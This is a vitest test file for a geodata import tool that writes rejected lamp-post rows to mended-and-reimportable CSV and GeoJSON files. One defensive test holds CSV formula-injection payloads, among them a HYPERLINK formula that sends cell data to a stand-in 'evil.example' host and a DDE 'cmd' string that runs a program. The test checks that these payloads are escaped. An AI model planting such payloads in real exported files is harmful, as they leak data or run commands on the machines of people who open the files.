import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ImportReject } from "@chengyun/contracts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { toMapping } from "./map/mapping.ts";
import { rejectsFormat, toMendedMapping } from "./mended.ts";
import { noRejects, rejectedRows, writeRejects } from "./rejects.ts";
import { takenSince } from "./taken.ts";
import { understand } from "./understanding.ts";

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "chengyun-rejects-"));
});
afterAll(() => rmSync(folder, { recursive: true }));

const put = (name: string, content: string | Buffer): string => {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
};

const lamps = {
  kind: "things",
  source: "lamps",
  system: "wgs-84",
  bounds: [112, 28, 113, 29],
  fields: {
    ref: { text: "lamps/{code}" },
    type: { is: "lamp-post" },
    name: "name",
    at: { x: "lon", y: "lat" },
  },
};

async function* told(rejects: readonly ImportReject[]): AsyncGenerator<ImportReject> {
  yield* rejects;
}

const reject = (line: number, code: string, lines?: number[]): ImportReject => ({
  ...{ line, field: "x", code, text: { zh: code, en: code } },
  ...(lines === undefined ? {} : { lines }),
});

const write = async (path: string, mapping: object, rejects: AsyncIterable<ImportReject> = noRejects()) => {
  const understanding = await understand(path, toMapping(mapping, "test"));
  const out = join(folder, "out.rejects.csv");
  await writeRejects(out, rejectedRows(understanding, rejects));
  return { out, lines: readFileSync(out, "utf8").split("\r\n").slice(0, -1) };
};

const take = async (path: string, mapping: object) => {
  const refs: unknown[] = [];
  for await (const { rows } of (await understand(path, toMapping(mapping, "test"))).pieces())
    refs.push(...rows.map((one) => (one as { row: { ref: string } }).row.ref));
  return refs;
};

describe("a file of rows that were not taken holds every one of them", () => {
  const csv =
    "code,name,lon,lat\n1,a,112.1,28.1\n2,b,28.1,112.1\n3,c,d,112.1,28.1\n4,e\n5,f,112.2,28.2\n6,g,112.2,28.2\n";

  test("those with too few cells and too many beside the others, each with what it held", async () => {
    const { lines } = await write(put("torn.csv", csv), lamps);
    expect(lines).toHaveLength(4);
    expect(lines[0]).toBe("\uFEFFcode,name,lon,lat,line,field,_code,reason,原因");
    expect(lines[1]).toMatch(/^2,b,28.1,112.1,3,position,swapped-coordinates,/);
    expect(lines[2]).toMatch(/^3,c,d,112.1,4,,wrong-number-of-columns,.*beyond them.*28\.1.*,28\.1$/);
    expect(lines[3]).toMatch(/^4,e,,,5,,wrong-number-of-columns,/);
  });

  test("what the city refused too, one reason for many lines included, and what belongs to no row", async () => {
    const rejects = [reject(0, "no-such-link"), reject(2, "outside-city", [2, 6]), reject(7, "retired")];
    const { lines } = await write(put("city.csv", csv), lamps, told(rejects));
    expect(lines.slice(1).map((line) => line.split(",").slice(0, 2).join(","))).toEqual([
      "1,a",
      "2,b",
      "3,c",
      "4,e",
      "5,f",
      "6,g",
      ",",
    ]);
    expect(lines[1]).toMatch(/^1,a,112.1,28.1,2,x,outside-city/);
    expect(lines[7]).toMatch(/^,,,,0,x,no-such-link/);
  });

  test("however many there are", async () => {
    const rows = Array.from({ length: 120_000 }, (_, n) => `${n},lamp,28.1,112.1`);
    const { lines } = await write(put("all-wrong.csv", `code,name,lon,lat\n${rows.join("\n")}\n`), lamps);
    expect(lines).toHaveLength(120_001);
  });
});

test("a mended file of rejects is read by the mapping of its file, whatever that says of letters, signs and headings", async () => {
  const own = { ...lamps, encoding: "gb18030", delimiter: ";", headings: 2 };
  const gb = (name: string) =>
    Buffer.concat([Buffer.from("1;"), Buffer.from([0xcd, 0xf2, 0xca, 0xd9]), Buffer.from(name)]);
  const path = put("own.csv", Buffer.concat([Buffer.from("title;;;\ncode;name;lon;lat\n"), gb(";28.1;112.1\n")]));
  const { out, lines } = await write(path, own);
  expect(lines[1]).toMatch(/^1,万寿,28.1,112.1,3,/);
  expect(await rejectsFormat(path)).toBeUndefined();
  expect(await rejectsFormat(out)).toBe("csv");
  const mended = put("mended.csv", readFileSync(out, "utf8").replace("28.1,112.1", "112.1,28.1"));
  expect(await take(mended, toMendedMapping(own))).toEqual(["lamps/1"]);
  // As an office program saves it again: semicolons, and letters of its own.
  const saved = put("saved.csv", Buffer.from(readFileSync(mended, "utf8").replaceAll(",", ";"), "utf16le"));
  writeFileSync(saved, Buffer.concat([Buffer.from([0xff, 0xfe]), readFileSync(saved).subarray(2)]));
  expect(await take(saved, toMendedMapping(own))).toEqual(["lamps/1"]);
});

test("no cell of a file of rejects is a formula, and each comes back as it was when the mended file is read", async () => {
  const cells = [
    `=HYPERLINK("http://evil.example/?"&A1)`,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "'=kept",
    "O'Hara",
  ];
  const rows = cells.map((cell, n) => `${n},"${cell.replaceAll('"', '""')}",28.1,-112.1`);
  const { out, lines } = await write(put("live.csv", `code,name,lat,lon\n${rows.join("\n")}\n`), lamps);
  expect(lines.slice(1).map((line) => /^\d,("?.)/.exec(line)?.[1])).toEqual([`"'`, "'", "'", "'", "'", "O"]);
  expect(lines.slice(1).every((line) => line.includes(",28.1,-112.1,"))).toBe(true);
  const mended = put("live.mended.csv", readFileSync(out, "utf8").replaceAll(",-112.1,", ",112.1,"));
  const names: unknown[] = [];
  for await (const { rows: read } of (
    await understand(mended, toMapping(toMendedMapping<object>(lamps), "test"))
  ).pieces())
    names.push(...read.map((one) => (one as { row: { name: { zh: string } } }).row.name.zh));
  expect(names).toEqual(cells);
});

describe("a file of rejects that somebody has mended", () => {
  const bad = "code,name,lon,lat\n1,a,28.1,112.1\n";
  const writeTo = async (path: string, content: string, isSparing: boolean) => {
    const understanding = await understand(put("spared.csv", content), toMapping(lamps, "test"));
    return writeRejects(path, rejectedRows(understanding, noRejects()), { isSparing });
  };

  test("is never written over: the next free name is taken, and no other while nothing changed", async () => {
    const path = join(folder, "spared.rejects.csv");
    expect(await writeTo(path, bad, true)).toBe(path);
    expect(await writeTo(path, bad, true)).toBe(path);
    const mended = readFileSync(path, "utf8").replace("28.1,112.1", "112.1,28.1");
    writeFileSync(path, mended);
    expect(await writeTo(path, bad, true)).toBe(join(folder, "spared.rejects-2.csv"));
    expect(readFileSync(path, "utf8")).toBe(mended);
    expect(await writeTo(path, bad, false)).toBe(path);
    expect(existsSync(`${path}.part`)).toBe(false);
  });

  test("is as it was when writing the next ends half way", async () => {
    const path = join(folder, "half.rejects.csv");
    writeFileSync(path, "mine");
    async function* torn() {
      yield { line: 2, values: { code: "1" }, beyond: [], faults: [], columns: ["code"] };
      throw new Error("killed");
    }
    await expect(writeRejects(path, torn())).rejects.toThrow("killed");
    expect(readFileSync(path, "utf8")).toBe("mine");
  });
});

test("a row left out as a repetition replaces nothing when its file is imported as it is; with another ref, or let, it is taken", async () => {
  const path = put("twice.csv", "code,name,lon,lat\n1,first,112.1,28.1\n1,second,112.2,28.2\n2,wrong,28.1,112.1\n");
  const { out } = await write(path, lamps);
  const rejects = readFileSync(out, "utf8");
  const mended = toMendedMapping<object>(lamps);
  const right = rejects.replace("28.1,112.1", "112.1,28.1");
  const kept = put("kept.csv", right);
  expect(await take(kept, mended)).toEqual(["lamps/2"]);
  // Told again, and the file that tells it holds the row back again.
  const { out: again, lines } = await write(kept, mended);
  expect(lines[1]).toMatch(/^1,second,112.2,28.2,2,ref,repeated-in-file,/);
  expect(await take(again, mended)).toEqual([]);
  expect(await take(put("other.csv", right.replace("1,second", "3,second")), mended)).toEqual(["lamps/3", "lamps/2"]);
  expect(await take(put("let.csv", right.replace("repeated-in-file", "")), mended)).toEqual(["lamps/1", "lamps/2"]);
});

test("features that were not taken are a collection with the reasons among their properties, and come back once mended", async () => {
  const feature = (no: number, x: number) =>
    JSON.stringify({
      ...{ type: "Feature", id: `f${no}`, properties: { nr: no, note: "=1+1" } },
      geometry: { type: "Point", coordinates: [x, 28.1] },
    });
  const path = put(
    "lamps.geojson",
    `{"type":"FeatureCollection","features":[\n${feature(1, 112.1)},\n${feature(2, 2.1)},\nnull]}`,
  );
  const mapping = {
    ...{ kind: "things", source: "lamps", system: "wgs-84", bounds: [112, 28, 113, 29] },
    fields: { ref: { text: "lamps/{nr}" }, type: { is: "lamp-post" }, name: "note" },
  };
  const understanding = await understand(path, toMapping(mapping, "test"));
  const out = join(folder, "lamps.rejects.geojson");
  await writeRejects(out, rejectedRows(understanding, noRejects()), { as: "features" });
  const written = JSON.parse(readFileSync(out, "utf8"));
  expect(written).toMatchObject({
    notTaken: true,
    features: [
      {
        id: "f2",
        properties: { nr: 2, note: "=1+1", feature: 2, field: "geometry", code: "position-out-of-bounds" },
        geometry: { coordinates: [2.1, 28.1] },
      },
    ],
  });
  expect(await rejectsFormat(out)).toBe("geojson");
  expect(await rejectsFormat(path)).toBeUndefined();
  const mended = put("lamps.mended.geojson", readFileSync(out, "utf8").replace("[2.1,", "[112.2,"));
  const again = await understand(
    mended,
    toMapping(toMendedMapping({ ...mapping, format: "shapefile", encoding: "big5" }, "geojson"), "test"),
  );
  const refs: string[] = [];
  for await (const { rows, faults } of again.pieces()) {
    refs.push(...rows.map((one) => ("row" in one ? String((one.row as { ref?: string }).ref) : "")));
    expect(faults).toEqual([]);
  }
  expect(refs).toEqual(["lamps/2"]);
});

describe("features written on one line", () => {
  const feature = (nr: number | null, x: number) =>
    JSON.stringify({ type: "Feature", properties: { nr }, geometry: { type: "Point", coordinates: [x, 28.1] } });
  const all = [feature(1, 112.1), feature(2, 2.1), feature(1, 112.3), feature(4, 112.4), feature(null, 112.5)];
  const path = () => put("minified.geojson", `{"type":"FeatureCollection","features":[${all.join(",")}]}`);
  const mapping = {
    ...{ kind: "things", source: "lamps", system: "wgs-84", bounds: [112, 28, 113, 29] },
    fields: { ref: { text: "lamps/{nr}" }, type: { is: "lamp-post" }, name: { is: "x" } },
  };

  test("are told by which of them they are, and exactly the bad ones come back, the city's refusals among them", async () => {
    const understanding = await understand(path(), toMapping(mapping, "test"));
    const out = join(folder, "minified.rejects.geojson");
    await writeRejects(out, rejectedRows(understanding, told([reject(4, "retired")])), { as: "features" });
    const { features } = JSON.parse(readFileSync(out, "utf8"));
    expect(
      features.map(({ properties: { nr, feature: nth, code } }: { properties: Record<string, unknown> }) => [
        ...[nr, nth, code],
      ]),
    ).toEqual([
      [2, 2, "position-out-of-bounds"],
      [1, 3, "repeated-in-file"],
      [4, 4, "retired"],
      [null, 5, "absent"],
    ]);
    expect(features[1].properties["原因"]).toMatch(/已在第 1 个要素中出现/);
    const mended = put("minified.mended.geojson", readFileSync(out, "utf8").replace("[2.1,", "[112.2,"));
    const again = await understand(mended, toMapping(toMendedMapping<object>(mapping, "geojson"), "test"));
    expect(await takenSince(again, new Set([2, 4]))).toEqual([2, 4]);
    expect(await takenSince(understanding, new Set())).toBeUndefined();
  });
});
